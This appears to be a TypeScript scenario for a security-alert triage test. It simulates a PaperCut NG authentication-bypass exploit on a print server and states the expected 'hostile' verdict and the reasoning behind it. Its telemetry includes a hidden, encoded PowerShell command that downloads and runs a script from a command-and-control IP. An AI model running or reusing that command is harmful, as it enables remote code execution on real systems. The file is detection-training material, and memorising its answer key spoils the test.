// Four lines in the application log of a print management server, and a shell that grew out of it.
import { alert, confirmed, connected, encodedCommand, hostile, processSeen, ran, situation } from '../../shorthand.ts'

export const printScriptSwitchedOn = situation(
  'print-script-switched-on',
  'formats',
  'Configuration keys changed in the log of a print server',
  (setting) => {
    const server = setting.machine('srv-print-03')
    const at = setting.ago({ minutes: 52 })
    const c2 = '45.138.16.203'
    const stage = `http://${c2}/p/cut.ps1`
    const command = `powershell.exe -nop -w hidden -enc ${encodedCommand(`IEX (New-Object Net.WebClient).DownloadString('${stage}')`)}`
    const line = (seconds: number, text: string) =>
      `${setting
        .iso(at + seconds * 1000)
        .slice(0, 19)
        .replace('T', ' ')},${text}`
    const seen = confirmed(
      setting,
      'print script shell',
      {
        title: 'Print management service started a suspicious PowerShell',
        category: 'Execution',
        severity: 'High',
        at: at + 31_000,
        machine: server,
        techniques: ['T1190', 'T1059.001'],
        evidence: [
          processSeen(
            setting,
            'powershell.exe',
            'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
            command,
            'pc-app.exe',
          ),
          { kind: 'Ip', ip: c2 },
        ],
      },
      'MultiStagedAttack',
    )
    return {
      alerts: [
        alert(
          setting,
          at + 40_000,
          'papercut_ng',
          'Application log: print scripting configuration changed',
          [
            '# PaperCut NG 22.0.6 (Build 63914) - Application Log export',
            `# Server: ${server.dnsName} (${server.ip})  Site: Boston  Filter: level>=INFO last 5 min`,
            'Date,Level,Type,Message,Details',
            line(-140, 'INFO,System,"Printer ""srv-print-03\\BOS-2F-Color"" toner low (8%)",'),
            line(-9, 'INFO,User,"User ""admin"" logged into the administration interface.",SetupCompleted'),
            line(
              0,
              'INFO,Config,"User ""admin"" updated the config key ""print-and-device.script.enabled"" to ""Y"".",',
            ),
            line(2, 'INFO,Config,"User ""admin"" updated the config key ""print.script.sandboxed"" to ""N"".",'),
            line(
              14,
              'INFO,Printer,"Admin user ""admin"" modified the print script on printer ""[Template Printer]"".",',
            ),
            line(
              38,
              'INFO,Printer,"Admin user ""admin"" modified the print script on printer ""[Template Printer]"".",',
            ),
          ].join('\n'),
        ),
      ],
      facts: {
        incidents: [seen.incident],
        telemetry: [
          ran(server, at + 29_000, 'cmd.exe', `cmd.exe /c ${command}`, {
            FolderPath: 'C:\\Windows\\System32',
            AccountName: 'system',
            InitiatingProcessFileName: 'pc-app.exe',
          }),
          ran(server, at + 30_000, 'powershell.exe', command, {
            FolderPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
            AccountName: 'system',
            InitiatingProcessFileName: 'cmd.exe',
          }),
          connected(server, at + 33_000, c2, {
            RemotePort: 80,
            RemoteUrl: stage,
            InitiatingProcessFileName: 'powershell.exe',
            InitiatingProcessAccountName: 'system',
          }),
          ran(server, at - 7_200_000, 'spoolsv.exe', 'C:\\Windows\\System32\\spoolsv.exe', {
            AccountName: 'system',
            InitiatingProcessFileName: 'services.exe',
          }),
        ],
        vulnerabilities: [
          {
            cve: 'CVE-2023-27350',
            title: 'PaperCut MF/NG improper access control',
            description:
              'SetupCompleted allows to bypass authentication and to run code as SYSTEM through print scripts.',
            severity: 'Critical',
            cvss: 9.8,
            vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
            published: setting.ago({ days: 1300 }),
            exploited: true,
            epss: 0.94,
            product: 'papercut_ng',
            vendor: 'papercut',
            fixedIn: '22.0.9',
          },
        ],
        findings: [
          {
            machine: server,
            cve: 'CVE-2023-27350',
            version: '22.0.6',
            firstFound: setting.ago({ days: 40 }),
            lastFound: setting.ago({ days: 1 }),
          },
        ],
      },
      expected: hostile(server.host),
      because:
        'The log shows the known way around the sign-in of this unpatched version. Seconds later the print service started a hidden PowerShell that fetched a script from a current command server, and the analyst confirmed the incident.',
    }
  },
)
